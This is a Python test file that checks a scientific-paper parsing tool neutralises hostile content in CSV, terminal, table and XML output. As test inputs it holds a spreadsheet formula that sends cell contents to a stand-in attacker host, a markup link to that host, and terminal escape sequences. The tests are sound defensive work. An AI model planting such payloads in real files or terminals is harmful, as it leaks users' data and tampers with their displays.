"""What papers hold does no harm where results go: spreadsheets, terminals, XML readers, and other outputs."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from sciassist import cli
from sciassist.bibliography.format_registry import FORMATS
from sciassist.bibliography.formats import write
from sciassist.datamodules.components.labelling import labelled
from sciassist.documents.document import Affiliation, Author, Document, Reference, Section
from sciassist.pipelines.components.entity_mentions import ENTITY_WRITERS
from sciassist.pipelines.text_classification import label_csv
from sciassist.utils.locks import locked

FORMULA = '=HYPERLINK("http://evil.example?x="&A1)'
ESCAPES = "\x1b[2J\x1b]0;title\x07\x9b31m"
NASTY = [
    "\x00",
    "\x0b",
    "\x1b",
    "\x7f",
    "\x85",
    "\u2028",
    "\ud800",
    "\udfff",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "]]>",
    "&<>",
]


def reference(text, label="title"):
    spans = [dict(start=0, end=len(text), label=label, score=0.9)]
    return dict(text=text, fields={label: [text]}, spans=spans, score=0.9, tagged_text=text)


def tagged(sentence, name_ends):
    span = dict(start=0, end=name_ends, text=sentence[:name_ends], label="Method", score=0.9, sentence=0)
    return dict(text=sentence, sentences=[(0, len(sentence))], spans=[span], entities=[], section=sentence, page=1)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", " ="])
def test_no_cell_of_a_csv_file_is_a_formula(begin):
    text = begin + FORMULA[1:]
    for written in (
        ENTITY_WRITERS["csv"]([tagged(text, 9)]),
        label_csv([dict(text=text, label=text, score=-0.5, section=text, page=1)]),
    ):
        rows = list(csv.reader(io.StringIO(written)))
        cells = [cell for row in rows for cell in row if not re.fullmatch(r"-?[\d.]+", cell)]
        assert any(cell.startswith("'") for cell in cells)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("name", ["[/x]", "[bold]", "[link=http://evil.example]x", "[/]", "\\[x]"])
def test_brackets_are_no_markup_of_tables(name):
    class Tagged(list):
        entities = [
            dict(name=name, label=name, score=0.9, count=1, forms=[name, name * 2], mentions=[dict(section=name)])
        ]

    for table in (cli.reference_table([reference(name)]), cli.entity_table(Tagged())):
        out = io.StringIO()
        cli.print_table(table, out)
        assert name in out.getvalue()


class Terminal(io.StringIO):
    def isatty(self):
        return True


def test_escape_sequences_reach_no_terminal(capsys):
    text = f"A title {ESCAPES}of rivers"
    table = Terminal()
    cli.print_table(cli.reference_table([reference(text)]), table)
    doc = Document(title=text, authors=[Author(text)], abstract=text, sections=[Section("1", text, 1, text, 1, 0, 1)])
    outline = cli.write_document(doc, cli.DocumentFormat.outline)
    cli.report(f"{text}.pdf does not exist")
    for seen in (table.getvalue(), outline, cli.shown(text, Terminal()), capsys.readouterr().err):
        assert not re.search("\x1b\\[2J|\x1b\\]|\x9b|\x07", seen)
        assert "itle" in seen or "rivers" in seen


@pytest.mark.parametrize("nasty", NASTY)
def test_all_xml_is_well_formed(nasty):
    text = f"Of {nasty} rivers"
    r = reference(text)
    doc = Document(
        title=text,
        authors=[Author(text, text, text, text, text, text, text, affiliations=[0])],
        abstract=text,
        sections=[Section(text, text, 1, text, 1, 0, 1)],
        references=[Reference(text, text, 1, 0, 1)],
        affiliations=[Affiliation(*[text] * 9)],
        keywords=[text],
        doi=text,
        dates={"received": text},
        venue=text,
        language=text,
    )
    for xml in (write([r], "tei"), "".join(labelled([r], "anystyle")), doc.to("tei")):
        ET.fromstring(xml.encode("utf-8"))


@pytest.mark.parametrize("to", FORMATS)
def test_one_record_that_cannot_be_written_stops_no_other(to, caplog, monkeypatch):
    from sciassist.bibliography import formats

    make = formats.to_csl_item

    def fails(record):
        if record["text"] == "bad":
            raise KeyError("nobody thought of it")
        return make(record)

    monkeypatch.setattr(formats, "to_csl_item", fails)
    written = write([reference("Rivers"), reference("bad"), reference("Lakes")], to)
    assert "Rivers" in written and "Lakes" in written
    assert FORMATS[to].by_line or "bad" in caplog.text


def sciassist(*args, cwd, **kwargs):
    command = [sys.executable, "-m", "sciassist.cli", *map(str, args)]
    return subprocess.run(command, cwd=cwd, capture_output=True, **kwargs)


LINE = "Knuth, D. E. (1984). Literate programming. The Computer Journal, 27(2), 97-111."


def test_a_command_never_writes_over_its_input(tmp_path):
    (tmp_path / "refs.txt").write_text(LINE)
    (tmp_path / "link.txt").symlink_to("refs.txt")
    for out in ("refs.txt", "./refs.txt", "link.txt"):
        done = sciassist("parse", "refs.txt", "-o", out, cwd=tmp_path)
        assert done.returncode == 2 and b"is also read" in done.stderr
    assert (tmp_path / "refs.txt").read_text() == LINE


def test_a_second_command_on_the_same_output_is_refused(tmp_path):
    (tmp_path / "refs.txt").write_text(LINE)
    (tmp_path / "out").mkdir()
    for out in ("refs.jsonl", "refs.bib", "out"):
        with locked(tmp_path / out):
            to = "bibtex" if out.endswith("bib") else "jsonl"
            done = sciassist("parse", "refs.txt", "--to", to, "-o", out, cwd=tmp_path)
        assert done.returncode == 1 and f"process {os.getpid()} on".encode() in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "refs.txt"]


@pytest.mark.skipif(sys.platform != "linux", reason="names are bytes on Linux alone")
def test_odd_files_in_a_folder_are_one_failure_each(tmp_path):
    papers = tmp_path / "papers"
    papers.mkdir()
    (papers / "good.txt").write_text(LINE)
    (papers / "windows.txt").write_text(LINE, encoding="utf-16")
    (papers / "packed.txt").write_bytes(b"\x1f\x8b\x08\x00")
    Path(os.fsdecode(bytes(papers) + b"/latin-\xfc.txt")).write_text(LINE)
    os.mkfifo(papers / "pipe.txt")
    (papers / "circle.txt").symlink_to("circle.txt")
    done = sciassist("parse", papers, "-o", tmp_path / "out", cwd=tmp_path, timeout=300)
    assert done.returncode == 1, done.stderr
    lines = (tmp_path / "out" / "_status.jsonl").read_text(encoding="utf-8").splitlines()
    states = {os.path.basename(s["input"]): s for s in map(json.loads, lines)}
    assert {os.fsencode(name): s["state"] for name, s in states.items()} == {
        b"good.txt": "done",
        b"windows.txt": "done",
        b"packed.txt": "failed",
        b"latin-\xfc.txt": "done",
        b"pipe.txt": "failed",
        b"circle.txt": "failed",
    }
    assert "compressed by gzip" in states["packed.txt"]["message"]
    assert not list((tmp_path / "out").glob(".*"))
